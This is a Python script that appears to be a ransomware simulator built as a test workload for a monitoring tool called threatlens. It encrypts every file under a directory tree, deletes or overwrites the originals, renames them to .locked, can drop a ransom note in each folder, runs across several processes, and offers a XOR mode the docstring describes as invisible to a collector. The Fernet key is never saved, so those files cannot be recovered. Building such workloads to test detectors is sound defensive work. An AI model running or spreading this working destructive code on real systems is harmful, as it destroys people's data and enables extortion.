"""A ransomware-like tool for threatlens's workloads: encrypts every file under a directory tree.

Modes: "newfile" writes NAME.locked and deletes NAME; "inplace" overwrites NAME and renames it to NAME.locked.
Ciphers: "xor" (pure Python: no library call a collector could see) or "fernet" (the cryptography package: through
the system libcrypto when Debian's python3-cryptography is used). Workers > 1 use several processes. A delay slows it
down (seconds per file). Never run it outside a scratch directory: it destroys the files it visits.
"""
import argparse
import os
import sys
import time
from multiprocessing import Pool


def keystream_xor(data: bytes, key: int) -> bytes:
    return bytes(b ^ ((key + i * 31) & 0xFF) for i, b in enumerate(data))


def encrypt_file(args):
    path, mode, cipher, delay = args
    with open(path, "rb") as f:
        data = f.read()
    if cipher == "fernet":
        from cryptography.fernet import Fernet
        out = Fernet(KEY).encrypt(data)
    else:
        out = keystream_xor(data, 0x5A)
    if mode == "newfile":
        with open(path + ".locked", "wb") as f:
            f.write(out)
        os.remove(path)
    else:
        with open(path, "r+b") as f:
            f.write(out)
            f.truncate()
        os.rename(path, path + ".locked")
    if delay > 0:
        time.sleep(delay)
    return 1


KEY = None


def main():
    global KEY
    parser = argparse.ArgumentParser()
    parser.add_argument("root")
    parser.add_argument("--mode", choices=["newfile", "inplace"], default="newfile")
    parser.add_argument("--cipher", choices=["xor", "fernet"], default="xor")
    parser.add_argument("--workers", type=int, default=1)
    parser.add_argument("--delay", type=float, default=0.0)
    parser.add_argument("--note", action="store_true", help="drop a ransom note in every directory")
    a = parser.parse_args()
    if a.cipher == "fernet":
        from cryptography.fernet import Fernet
        KEY = Fernet.generate_key()
    files = []
    for directory, _, names in os.walk(a.root):
        if a.note:
            with open(os.path.join(directory, "HOW_TO_RECOVER.txt"), "w") as f:
                f.write("Your files are encrypted.\n")
        files.extend(os.path.join(directory, n) for n in sorted(names) if n != "HOW_TO_RECOVER.txt")
    jobs = [(p, a.mode, a.cipher, a.delay) for p in files]
    if a.workers > 1:
        with Pool(a.workers, initializer=_init, initargs=(KEY,)) as pool:
            done = sum(pool.imap_unordered(encrypt_file, jobs, chunksize=4))
    else:
        done = sum(map(encrypt_file, jobs))
    print(f"encrypted {done} files", file=sys.stderr)


def _init(key):
    global KEY
    KEY = key


if __name__ == "__main__":
    main()
